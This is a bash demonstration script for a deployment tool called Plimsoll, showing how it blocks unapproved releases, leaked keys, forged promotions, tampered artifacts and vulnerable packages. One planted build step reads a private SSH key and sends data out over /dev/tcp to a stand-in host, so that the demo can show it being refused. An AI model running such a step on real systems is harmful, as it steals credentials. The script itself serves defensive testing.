#!/usr/bin/env bash
# The demonstration: a small HTTP service goes from a commit through staging to production, past people who did not write
# it, onto a machine that starts nothing else; what must not happen on the way does not. It only runs commands that you
# could type, and prints each before it runs it, behind the name of whoever types it: Ann writes the service, Bob approves
# releases, and prod-1 is the machine of production. All three are directories of this machine.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=dev/env.sh
. "$here/../env.sh"
PATH="$PLIMSOLL_ROOT/${CARGO_TARGET_DIR:-target}/debug:${CARGO_TARGET_DIR:+$CARGO_TARGET_DIR/debug:}$PATH"

home=$(mktemp -d "${TMPDIR:-/tmp}/plimsoll-demo.XXXXXX")
# Nothing of the person who runs this is read or changed, but for cargo's own configuration.
export CARGO_HOME=${CARGO_HOME:-$HOME/.cargo} RUSTUP_HOME=${RUSTUP_HOME:-$HOME/.rustup}
export HOME=$home/ann PLIMSOLL_STATE=$home/ann/state GIT_CONFIG_NOSYSTEM=1
unset SSH_AUTH_SOCK
mkdir "$home/ann" "$home/bob" "$home/prod-1"
agent= load=
clean() {
    if [ -n "$load" ]; then kill "$load" 2>/dev/null || true; fi
    if [ -n "$agent" ]; then kill "$agent" && wait "$agent" || true; fi
    PLIMSOLL_STATE=$home/prod-1/state plimsoll stop shop@production >/dev/null 2>&1 || true
    plimsoll stop shop@staging >/dev/null 2>&1 || true
    chmod -R u+rwX "$home"
    rm -rf "$home"
}
trap clean EXIT
trap 'exit 130' INT TERM

bold() { if [ -t 1 ]; then printf '\033[1m%s\033[0m\n' "$*"; else printf '%s\n' "$*"; fi; }
chapter() { printf '\n'; bold "== $*"; }
# A command as it could be typed, by whoever is at work.
show() {
    local word line="${HOME##*/} \$"
    for word in "$@"; do
        case $word in
        '' | *[!A-Za-z0-9_./:@=%+,-]*) line+=" '$word'" ;;
        *) line+=" $word" ;;
        esac
    done
    printf '\n'
    bold "$line"
}
run() {
    show "$@"
    "$@"
}
# The same by somebody else, with a home and a state directory of their own.
as() {
    local who=$1
    shift
    HOME=$home/$who PLIMSOLL_STATE=$home/$who/state "$@"
}
# A command that must be refused, with this code.
refused() {
    local code=$1 output status=0
    shift
    show "$@"
    output=$("$@" 2>&1) || status=$?
    printf '%s\n' "$output"
    if [ "$status" -eq 0 ] || ! grep -q -- "$code" <<<"$output"; then
        echo "demo: expected a refusal with $code, and the command ended with status $status" >&2
        exit 1
    fi
}
# Waits for something that happens by itself.
wait_for() {
    local _
    for _ in $(seq 300); do
        if "$@" >/dev/null 2>&1; then return; fi
        sleep 0.2
    done
    echo "demo: this did not come true: $*" >&2
    cat "$home/prod-1/log" >&2
    exit 1
}
# What the board says of production.
board() { plimsoll status | sed -n '/^shop@production/,/^[^ ]/p' | grep -- "$1"; }
told() { grep -- "$1" "$home/prod-1/log"; }
# A port that nobody listens on, nor on the one after it.
free_port() {
    local port
    for port in $(seq 8080 2 8180); do
        if ! (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null &&
            ! (exec 3<>"/dev/tcp/127.0.0.1/$((port + 1))") 2>/dev/null; then
            echo "$port"
            return
        fi
    done
    echo "demo: no port from 8080 to 8180 is free" >&2
    return 1
}
port=$(free_port)
production=http://127.0.0.1:$((port + 1))
advisories=$PLIMSOLL_ROOT/crates/plimsoll-dependencies/testdata/osv/rustsec

chapter "A repository with a small HTTP service, and commits signed by its author"
run ssh-keygen -q -t ed25519 -N '' -C ann@example.org -f "$home/ann/key"
cp -r "$here/shop" "$home/shop"
rm -rf "$home/shop/target"
cd "$home/shop"
run git config --global user.name Ann
run git config --global user.email ann@example.org
run git config --global gpg.format ssh
run git config --global user.signingKey "$home/ann/key.pub"
run git config --global commit.gpgSign true
run git init -q -b main
run git add -A
run git commit -q -m 'shop: a small service'

chapter "A delivery repository says what may run where: production comes after staging, and asks for somebody else's approval"
run plimsoll init --delivery "$home/delivery" --environments staging,production --listen "$port"
run cat "$home/delivery/environments/production/environment.yaml"

chapter "Bob may approve; production lives on a machine of its own, and falls back for a minute after each release"
as bob git config --global user.name Bob
as bob git config --global user.email bob@example.org
as bob run ssh-keygen -q -t ed25519 -N '' -C bob@example.org -f "$home/bob/key"
as bob git config --global user.signingKey "$home/bob/key.pub"
cat >>"$home/delivery/people.yaml" <<EOF
  - name: Bob
    git-emails: [bob@example.org]
    ssh-keys: ["$(cat "$home/bob/key.pub")"]
    roles: [release-managers]
EOF
echo 'rollback: {automatic: true, on: [start, health], confirm: 1m}' >>"$home/delivery/environments/production/environment.yaml"
cat >"$home/delivery/environments/production/shop/target.yaml" <<EOF
version: 1
host: {agent: prod-1, port: 8080, listen: $((port + 1)), health: /healthz, strategy: blue-green}
EOF
run git -C "$home/delivery" diff --unified=0
run git -C "$home/delivery" commit -q -a -m 'bob approves; production is prod-1'
run plimsoll policy sign -C "$home/delivery"

chapter "What is known about packages: one signed index, here of some records of the RustSec database"
run plimsoll advisories import "$advisories"

chapter "A step that reads a file of the host and calls out gets neither"
run git checkout -q -b mallory
cat >plimsoll.yaml <<EOF
version: 1
project: shop
build:
  toolchain: host
  steps:
    - name: peek
      run: [/bin/bash, -c, 'cat $home/ann/key; echo hello > /dev/tcp/192.0.2.1/443']
      scratch: [out]
      out: [out/shop]
  artifact: {files: [out/shop]}
evidence:
  - {test: unit, on: source, run: 'true'}
EOF
run git commit -q -am 'peek'
refused E-STEP-FAILED plimsoll run
run plimsoll logs "$(plimsoll --json status | sed -n 's/^ *"run": "\([0-9a-f]\{8\}\).*/\1/p' | head -1)" peek
run git checkout -q main

chapter "A commit that breaks a test builds, and the gate refuses it"
sed -i 's/995/996/' src/lib.rs
run git commit -q -am 'shop: rope costs more'
refused unit plimsoll run
refused E-EVIDENCE-FAILED plimsoll promote shop --to staging

run git revert --no-edit HEAD

chapter "A commit that leaks a key builds and passes its tests, and the gate refuses it; why shows the place and the repair"
ssh-keygen -q -t ed25519 -N '' -C deploy -f deploy_key
rm deploy_key.pub
run git add deploy_key
run git commit -q -m 'shop: how to deploy'
run plimsoll run
refused E-EVIDENCE-FAILED plimsoll promote shop --to staging
run plimsoll why shop@staging
plimsoll why shop@staging | grep 'deploy_key:1' >/dev/null || { echo "demo: why does not name the leaked key" >&2; exit 1; }

chapter "The fixed commit is built, tested, scanned and signed, allowed, and started in staging"
run git revert --no-edit HEAD
run plimsoll run
run plimsoll promote shop --to staging
run curl --silent --fail "http://127.0.0.1:$port/price/rope/3"

chapter "The machine of production: its agent believes the trust root, and the root believes its key"
as prod-1 run plimsoll agent enroll prod-1 --environment production --delivery "$home/delivery" --artifacts "$home/ann/state/layout"
run plimsoll trust add agent:production "$home/prod-1/state/keys/agent-production.pub" -C "$home/delivery"
as prod-1 show plimsoll agent run --interval 1 '&'
HOME=$home/prod-1 PLIMSOLL_STATE=$home/prod-1/state plimsoll agent run --interval 1 2>"$home/prod-1/log" &
agent=$!

chapter "Production refuses what nobody approved, and what only its author did"
refused E-APPR-QUORUM plimsoll promote shop --to production
run plimsoll approve shop@production --yes
refused E-APPR-SELF plimsoll promote shop --to production

chapter "Bob reads what would change, and signs; the very artifact of staging goes to production"
as bob run plimsoll trust pin "$home/delivery"
as bob run plimsoll approve shop@production --yes
run plimsoll promote shop --to production
run curl --silent --fail "$production/price/rope/3"
run plimsoll why shop@production

chapter "Under load: a version that gets sick after a few seconds falls back by itself, and no request fails"
: >"$home/answers"
(while :; do curl --silent --output /dev/null --write-out '%{http_code}\n' "$production/price/rope/3" >>"$home/answers"; done) &
load=$!
cat >>src/lib.rs <<'EOF'

fn health() -> u16 {
    static BEGAN: std::sync::OnceLock<std::time::Instant> = std::sync::OnceLock::new();
    if BEGAN.get_or_init(std::time::Instant::now).elapsed().as_secs() < 5 { 200 } else { 500 }
}
EOF
sed -i 's/\["healthz"\] => Answer { status: 200/["healthz"] => Answer { status: health()/' src/lib.rs
run git commit -q -am 'shop: a leak'
run plimsoll run
run plimsoll promote shop --to staging
refused E-APPR plimsoll promote shop --to production
as bob run plimsoll approve shop@production --yes
show plimsoll promote shop --to production
# It serves, or was taken back already: both are what happened.
plimsoll promote shop --to production || true
wait_for board E-FALLBACK
run plimsoll status
run curl --silent --fail "$production/healthz"
kill "$load"
wait "$load" || true
load=
printf '\n'
bold "ann \$ sort $home/answers | uniq -c"
sort "$home/answers" | uniq -c
if grep -qv '^200$' "$home/answers"; then
    echo "demo: requests failed" >&2
    exit 1
fi

chapter "Somebody changes a file of the running release: drift, shown with its cause and repaired"
file=$(find "$home"/prod-1/state/services/shop@production/release-*/root -name shop | head -1)
chmod u+w "$file"
printf '\n'
bold "root \$ echo surprise >> $file"
echo surprise >>"$file"
wait_for told 'repair.*shop@production'
wait_for told 'drift.*shop@production'
run grep -A 2 drift "$home/prod-1/log"

chapter "Somebody forges a promotion: another release under the decision of this one"
sed -i 's/"artifact":"sha256:....../"artifact":"sha256:facade/' "$home/delivery/environments/production/shop/release.json"
run git -C "$home/delivery" commit -q -a -m 'promote shop@production'
wait_for board E-DELIVERY-COMMIT
run plimsoll status
run git -C "$home/delivery" revert --no-edit HEAD
in_order() { ! board E-DELIVERY-COMMIT; }
wait_for in_order
chapter "Tools that never heard of Plimsoll check its signatures"
id=$(plimsoll --json status | sed -n 's/^ *"run": "\([0-9a-f]\{32\}\)".*/\1/p' | head -1)
run plimsoll export "$id" --to "$home/out"
printf '\n'
bold '$ plimsoll trust key builder > builder.pub'
plimsoll trust key builder >"$home/builder.pub"
cosign_verify=(cosign verify-blob-attestation --key "$home/builder.pub" --insecure-ignore-tlog
    --type https://slsa.dev/provenance/v1 --bundle "$home/out/artifact.sigstore.json")
run "${cosign_verify[@]}" "$home/out/files/shop"
run plimsoll verify "$home/out/artifact.sigstore.json" --subject "$home/out/files/shop"

chapter "What the artifact is made of, signed about its digest: lock file, artifact, and what the build really fetched"
plimsoll trust key scanner >"$home/scanner.pub"
run cosign verify-blob-attestation --key "$home/scanner.pub" --insecure-ignore-tlog --type cyclonedx \
    --bundle "$home/out/sbom.sigstore.json" "$home/out/files/shop"
run grep -A 16 '"bom-ref": "pkg:cargo/tiny_http' "$home/out/sbom.cdx.json"

chapter "Something becomes known about a package (made up for this demonstration): what runs is compared, and named"
run plimsoll scan released
mkdir "$home/osv"
cp "$advisories"/*.json "$home/osv/"
cat >"$home/osv/DEMO-2026-0001.json" <<'EOF'
{"id": "DEMO-2026-0001", "modified": "2026-11-01T00:00:00Z", "summary": "Made up: prices can be read from memory",
 "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
 "affected": [{"package": {"ecosystem": "crates.io", "name": "ascii"},
   "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.0.0"}, {"fixed": "1.1.1"}]}]}]}
EOF
run plimsoll advisories import "$home/osv"
refused shop@production plimsoll scan released

chapter "The decision and everything it was computed from, in one file, recomputed offline"
run plimsoll dossier shop@production --output "$home/shop.dossier.tar"
run plimsoll verify "$home/shop.dossier.tar" --root "$home/delivery/trust/root.json"

chapter "One flipped byte"
printf '\n'
bold "\$ printf X | dd of=$home/out/files/shop bs=1 seek=4096 conv=notrunc"
chmod u+w "$home/out/files/shop"
printf 'X' | dd of="$home/out/files/shop" bs=1 seek=4096 conv=notrunc status=none
refused E-SUBJECT plimsoll verify "$home/out/artifact.sigstore.json" --subject "$home/out/files/shop"
refused 'subject digest\|not match\|Error' "${cosign_verify[@]}" "$home/out/files/shop"

chapter "From the process of production back to the commit"
as prod-1 run plimsoll status
process=$(as prod-1 plimsoll --json status | sed -n 's/^ *"process": \([0-9]*\).*/\1/p' | head -1)
run sha256sum "/proc/$process/exe"
actual=$(sha256sum "/proc/$process/exe" | cut -d' ' -f1)
run plimsoll trace "$actual"
if ! plimsoll trace "$actual" | grep -q "shop@production"; then
    echo "demo: the trace does not lead from what process $process executes to production" >&2
    exit 1
fi
chapter "Done. Everything of this demonstration is removed again."
